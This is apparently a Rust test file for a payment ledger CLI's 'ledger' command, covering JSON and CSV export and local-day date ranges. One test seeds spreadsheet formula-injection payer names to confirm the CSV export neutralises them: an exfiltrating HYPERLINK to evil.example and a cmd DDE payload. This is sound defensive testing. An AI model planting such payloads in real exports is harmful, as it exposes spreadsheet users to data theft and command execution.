//! `paysay ledger` run as the real binary against a ledger seeded through the library.
//!
//! `TZ=CST-8` (a POSIX zone string, no tz database needed) makes "local time" UTC+8, so the
//! day boundaries and the RFC 3339 offsets are the same on every machine.

mod common;

use std::path::Path;

use paysay::ledger::Ledger;
use paysay::payment::{Payment, PaymentKind};

fn payment(msg_id: &str, fen: u64, kind: PaymentKind, payer: Option<&str>, time: i64) -> Payment {
    Payment {
        msg_id: msg_id.into(),
        amount_fen: fen,
        kind,
        payer: payer.map(str::to_string),
        remark: None,
        daily_count: None,
        daily_total_fen: None,
        time,
        account: "微信支付".into(),
        transfer_id: None,
        wallet: paysay::payment::Wallet::WeChat,
        source: paysay::payment::Source::Web,
    }
}

/// 2024-05-01 00:30 and 2024-04-30 23:30 at UTC+8, either side of a local midnight.
const MAY_1_0030: i64 = 1_714_494_600;
const APR_30_2330: i64 = 1_714_491_000;
const MAY_2_0900: i64 = 1_714_611_600;

fn seed(state: &Path) {
    let ledger = Ledger::open(&state.join("paysay/ledger.sqlite3")).expect("ledger opens");
    for p in [
        payment("m-apr30", 100, PaymentKind::Collection, None, APR_30_2330),
        payment("m-may1", 1250, PaymentKind::Collection, None, MAY_1_0030),
        payment(
            "m-may2",
            2000,
            PaymentKind::Transfer,
            Some("张三"),
            MAY_2_0900,
        ),
    ] {
        ledger.record(&p).expect("recorded");
    }
    ledger.mark_announced("m-may1").expect("marked");
}

fn paysay(home: &Path, args: &[&str]) -> (String, String, bool) {
    let out = common::paysay_in(home)
        .args(args)
        .env("TZ", "CST-8")
        .output()
        .expect("paysay runs");
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
        out.status.success(),
    )
}

fn json_lines(stdout: &str) -> Vec<serde_json::Value> {
    stdout
        .lines()
        .map(|l| {
            serde_json::from_str(l)
                .unwrap_or_else(|e| panic!("not one JSON object per line: {l:?}: {e}"))
        })
        .collect()
}

#[test]
fn json_prints_one_object_per_payment_of_the_local_days() {
    let home = tempfile::tempdir().unwrap();
    seed(&home.path().join("state"));
    let (stdout, stderr, ok) = paysay(
        home.path(),
        &[
            "ledger",
            "--json",
            "--since",
            "2024-05-01",
            "--until",
            "2024-05-01",
        ],
    );
    assert!(ok, "{stderr}");
    let lines = json_lines(&stdout);
    assert_eq!(lines.len(), 1, "{stdout}");
    let line = &lines[0];
    assert_eq!(line["msg_id"], "m-may1");
    assert_eq!(line["amount_fen"], 1250);
    assert_eq!(line["kind"], "collection");
    assert_eq!(line["payer"], serde_json::Value::Null);
    assert_eq!(line["time"], "2024-05-01T00:30:00+08:00");
    assert!(line["announced_at"].is_string());

    let (stdout, _, ok) = paysay(
        home.path(),
        &[
            "ledger",
            "--json",
            "--since",
            "2024-04-30",
            "--until",
            "2024-05-02",
        ],
    );
    assert!(ok);
    let lines = json_lines(&stdout);
    let ids: Vec<&str> = lines.iter().filter_map(|l| l["msg_id"].as_str()).collect();
    assert_eq!(ids, ["m-apr30", "m-may1", "m-may2"]);
    assert_eq!(lines[2]["kind"], "transfer");
    assert_eq!(lines[2]["payer"], "张三");
    assert_eq!(lines[2]["time"], "2024-05-02T09:00:00+08:00");
    assert_eq!(lines[2]["announced_at"], serde_json::Value::Null);
}

#[test]
fn default_is_today_with_a_total() {
    let home = tempfile::tempdir().unwrap();
    let state = home.path().join("state");
    seed(&state);
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    let ledger = Ledger::open(&state.join("paysay/ledger.sqlite3")).unwrap();
    ledger
        .record(&payment("m-now", 880, PaymentKind::Collection, None, now))
        .unwrap();
    ledger
        .record(&payment("m-now2", 120, PaymentKind::Collection, None, now))
        .unwrap();
    let (stdout, stderr, ok) = paysay(home.path(), &["ledger"]);
    assert!(ok, "{stderr}");
    assert!(stdout.contains("￥8.80"), "{stdout}");
    assert!(
        stdout.trim_end().ends_with("total: ￥10.00 (2 payments)"),
        "{stdout}"
    );
    assert!(
        !stdout.contains("￥12.50"),
        "old days leak into today: {stdout}"
    );
}

#[test]
fn csv_has_a_header_and_a_row_per_payment() {
    let home = tempfile::tempdir().unwrap();
    seed(&home.path().join("state"));
    let (stdout, stderr, ok) = paysay(
        home.path(),
        &[
            "ledger",
            "--csv",
            "--since",
            "2024-05-02",
            "--until",
            "2024-05-02",
        ],
    );
    assert!(ok, "{stderr}");
    let rows: Vec<&str> = stdout.lines().collect();
    assert_eq!(rows.len(), 2, "{stdout}");
    assert!(rows[0].starts_with("time,amount_yuan,amount_fen,kind,payer"));
    assert!(
        rows[1].starts_with("2024-05-02T09:00:00+08:00,20.00,2000,transfer,张三,"),
        "{}",
        rows[1]
    );
}

/// Payer names are whatever the payer chose: a spreadsheet must not run one. The JSON keeps
/// them exact.
#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_text_and_json_stays_exact() {
    let home = tempfile::tempdir().unwrap();
    let state = home.path().join("state");
    let ledger = Ledger::open(&state.join("paysay/ledger.sqlite3")).expect("ledger opens");
    let names = [
        r#"=HYPERLINK("http://evil.example/?"&A1,"点我")"#,
        "+SUM(1,2)*cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
    ];
    for (i, name) in names.iter().enumerate() {
        let mut p = payment(
            &format!("m{i}"),
            100,
            PaymentKind::Transfer,
            Some(name),
            MAY_2_0900 + i as i64,
        );
        p.account = (*name).to_string();
        ledger.record(&p).expect("recorded");
    }
    let day = ["--since", "2024-05-02", "--until", "2024-05-02"];
    let (stdout, stderr, ok) = paysay(home.path(), &[&["ledger", "--csv"][..], &day].concat());
    assert!(ok, "{stderr}");
    for line in stdout.lines().skip(1) {
        // No cell starts with a character a spreadsheet reads as a formula.
        let cells: Vec<&str> = line.split(',').collect();
        for cell in cells {
            let text = cell.trim_start_matches('"');
            assert!(
                !text.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{line}"
            );
        }
    }
    assert!(
        stdout.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""点我"")""#),
        "{stdout}"
    );
    assert!(stdout.contains(",'-2+3,"), "{stdout}");
    let (json, _, ok) = paysay(home.path(), &[&["ledger", "--json"][..], &day].concat());
    assert!(ok);
    let payers: Vec<String> = json_lines(&json)
        .iter()
        .map(|l| l["payer"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(payers, names);
}

#[test]
fn a_backwards_range_or_a_bad_date_is_an_error() {
    let home = tempfile::tempdir().unwrap();
    let (_, stderr, ok) = paysay(
        home.path(),
        &["ledger", "--since", "2024-05-02", "--until", "2024-05-01"],
    );
    assert!(!ok);
    assert!(stderr.contains("after --until"), "{stderr}");
    let (_, stderr, ok) = paysay(home.path(), &["ledger", "--since", "May 1st"]);
    assert!(!ok);
    assert!(stderr.contains("2024-05-01"), "{stderr}");
}

#[test]
fn reading_a_missing_ledger_says_so_and_creates_nothing() {
    let home = tempfile::tempdir().unwrap();
    let (stdout, stderr, ok) = paysay(home.path(), &["ledger", "--json"]);
    assert!(ok, "{stderr}");
    assert!(stdout.is_empty(), "{stdout}");
    assert!(stderr.contains("no ledger at"), "{stderr}");
    assert!(!home.path().join("state/paysay/ledger.sqlite3").exists());
}
